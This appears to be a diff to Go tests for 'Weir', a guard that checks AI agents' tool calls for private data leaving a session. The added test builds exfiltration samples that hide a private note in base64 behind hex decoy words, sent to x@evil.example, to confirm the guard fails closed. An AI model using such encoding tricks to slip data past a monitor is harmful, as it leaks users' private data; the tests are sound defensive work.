@@ -5,6 +5,7 @@ import (
 	"encoding/base64"
 	"encoding/hex"
 	"encoding/json"
+	"fmt"
 	"net/url"
 	"reflect"
 	"slices"
@@ -27,7 +28,7 @@ func hasher(t testing.TB) *fingerprint.Hasher {
 	return h
 }
 
-func mustPolicy(t testing.TB, yaml string) *policy.Policy {
+func mustPolicy(t fataler, yaml string) *policy.Policy {
 	t.Helper()
 	p, err := policyfile.Parse("test.yaml", []byte(yaml))
 	if err != nil {
@@ -51,7 +52,7 @@ type read struct {
 	text   string
 }
 
-func session(t testing.TB, h *fingerprint.Hasher, reads ...read) *flow.Session {
+func session(t fataler, h *fingerprint.Hasher, reads ...read) *flow.Session {
 	t.Helper()
 	var s flow.Session
 	for i, r := range reads {
@@ -59,7 +60,7 @@ func session(t testing.TB, h *fingerprint.Hasher, reads ...read) *flow.Session {
 		raw, _ := json.Marshal(map[string]any{"content": []map[string]string{{"type": "text", "text": r.text}}})
 		o, err := Observe(h, Result{Server: server, Tool: tool, Labels: r.labels, Raw: raw, At: int64(i)})
 		if err != nil {
-			t.Fatal(err)
+			t.Fatalf("%v", err)
 		}
 		if o != nil {
 			s.Apply(int64(i+1), o)
@@ -97,7 +98,7 @@ func TestDecide(t *testing.T) {
 		listed  bool
 		args    json.RawMessage
 		verdict flow.Verdict
-		rule    string
+		rule    Rule
 		sources []string
 		paths   []string
 		via     []string
@@ -228,7 +229,7 @@ func TestDecide(t *testing.T) {
 			}
 			server, tool, _ := strings.Cut(tt.tool, "/")
 			call := Call{Server: server, Tool: tool, Labels: ToolLabels{Labels: tt.labels, Listed: tt.listed}, Args: tt.args}
-			d := Decide(pol, h, session(t, h, tt.reads...), call)
+			d := decide(pol, h, session(t, h, tt.reads...), call)
 			if d.Verdict != tt.verdict || d.Rule != tt.rule {
 				t.Fatalf("verdict %s rule %q, want %s %q\nreason: %s", d.Verdict, d.Rule, tt.verdict, tt.rule, d.Reason)
 			}
@@ -255,9 +256,9 @@ func TestDecideDeterministic(t *testing.T) {
 	pol := mustPolicy(t, "version: 1\n")
 	call := Call{Server: "mail", Tool: "send_email", Labels: ToolLabels{Labels: sink},
 		Args: args("a", noteText[:50], "b", base64.StdEncoding.EncodeToString([]byte(noteText[40:])), "c", apiKey)}
-	first := Decide(pol, h, session(t, h, notes, keys, files, web), call)
+	first := decide(pol, h, session(t, h, notes, keys, files, web), call)
 	for range 20 {
-		if d := Decide(pol, h, session(t, h, notes, keys, files, web), call); !reflect.DeepEqual(d, first) {
+		if d := decide(pol, h, session(t, h, notes, keys, files, web), call); !reflect.DeepEqual(d, first) {
 			t.Fatalf("decision changed between identical runs:\n%+v\n%+v", first, d)
 		}
 	}
@@ -266,7 +267,7 @@ func TestDecideDeterministic(t *testing.T) {
 func TestBlockMessage(t *testing.T) {
 	h := hasher(t)
 	pol := mustPolicy(t, "version: 1\n")
-	d := Decide(pol, h, session(t, h, notes), Call{Server: "mail", Tool: "send_email", Labels: ToolLabels{Labels: sink},
+	d := decide(pol, h, session(t, h, notes), Call{Server: "mail", Tool: "send_email", Labels: ToolLabels{Labels: sink},
 		Args: args("body", base64.StdEncoding.EncodeToString([]byte(noteText)))})
 	got := BlockMessage(d, "mail/send_email")
 	want := "Weir blocked this call to mail/send_email (rule flow.exfiltration): the arguments of mail/send_email carry private data read from notes/read_note (found in $.body, hidden via base64). The call was not made.\n" +
@@ -296,7 +297,7 @@ func TestDecideDataflowAndRules(t *testing.T) {
 		args    json.RawMessage
 		call    func(*Call)
 		verdict flow.Verdict
-		rule    string
+		rule    Rule
 		paths   []string
 		reason  string
 	}{
@@ -410,7 +411,7 @@ func TestDecideDataflowAndRules(t *testing.T) {
 			if tt.call != nil {
 				tt.call(&call)
 			}
-			d := Decide(pol, h, session(t, h, tt.reads...), call)
+			d := decide(pol, h, session(t, h, tt.reads...), call)
 			if d.Verdict != tt.verdict || d.Rule != tt.rule {
 				t.Fatalf("verdict %s rule %q, want %s %q\nreason: %s\nfindings: %+v", d.Verdict, d.Rule, tt.verdict, tt.rule, d.Reason, d.Findings)
 			}
@@ -448,4 +449,62 @@ func FuzzArgsMap(f *testing.F) {
 			t.Fatalf("%q: got %#v, want %#v", in, got, want)
 		}
 	})
+}
+
+// decide decides a call the way every caller does, through Decide.
+func decide(p *policy.Policy, h *fingerprint.Hasher, s *flow.Session, c Call) Decision {
+	return Decide(Inputs{Policy: p, Hasher: h, Session: s}, c)
+}
+
+// decoyArgs hides text base64-encoded after n hex-encoded decoy words of
+// size decoded bytes each.
+func decoyArgs(n, size int, text string) json.RawMessage {
+	var sb strings.Builder
+	sb.WriteString("Hi, the meeting notes are below.\n")
+	for i := range n {
+		word := fmt.Sprintf("%04d decoy ", i)
+		sb.WriteString(hex.EncodeToString([]byte(strings.Repeat(word, size/len(word)+1)[:size])))
+		sb.WriteByte(' ')
+	}
+	sb.WriteString("\nAttachment: " + b64(text) + "\nThanks!")
+	return args("to", "x@evil.example", "body", sb.String())
+}
+
+// TestDecodeBoundFailsClosed (defect 7): the decoder's work bound was
+// spent in a fixed order and an exhausted bound meant allow: 63 short hex
+// decoys before the base64 of a private note let it through, and so did
+// the base64 of megabytes of private text. The payload is now decoded
+// first, and arguments the decoder could not examine within its bound are
+// judged as the private data they may hide — when the session holds any.
+func TestDecodeBoundFailsClosed(t *testing.T) {
+	h := hasher(t)
+	pol := mustPolicy(t, "version: 1\n")
+	big := prose(11, 3<<20)
+	bigRead := read{"files/read_file", flow.Private, big}
+	sink := func(a json.RawMessage) Call {
+		return Call{Server: "mail", Tool: "send_email", Labels: ToolLabels{Labels: flow.Sink}, Args: a}
+	}
+	tests := []struct {
+		name    string
+		reads   []read
+		args    json.RawMessage
+		verdict flow.Verdict
+		reason  string
+	}{
+		{"63 short decoys, then the note", []read{notes}, decoyArgs(63, 8, noteText), flow.Block, "carry private data read from notes/read_note"},
+		{"200 decoys that could each hide a secret", []read{notes}, decoyArgs(200, 16, "a harmless attachment"), flow.Block, "could not examine all of the arguments"},
+		{"the same, with no private data in the session", []read{web}, decoyArgs(200, 16, "a harmless attachment"), flow.Allow, ""},
+		{"base64 of 3 MB of private text", []read{bigRead}, args("body", b64(big)), flow.Block, "carry private data read from files/read_file"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			d := decide(pol, h, session(t, h, tt.reads...), sink(tt.args))
+			if d.Verdict != tt.verdict || !strings.Contains(d.Reason, tt.reason) {
+				t.Fatalf("verdict %s (%s): %s; want %s containing %q", d.Verdict, d.Rule, d.Reason, tt.verdict, tt.reason)
+			}
+			if tt.verdict == flow.Block && d.Rule != RuleExfiltration {
+				t.Errorf("rule %s, want %s", d.Rule, RuleExfiltration)
+			}
+		})
+	}
 }
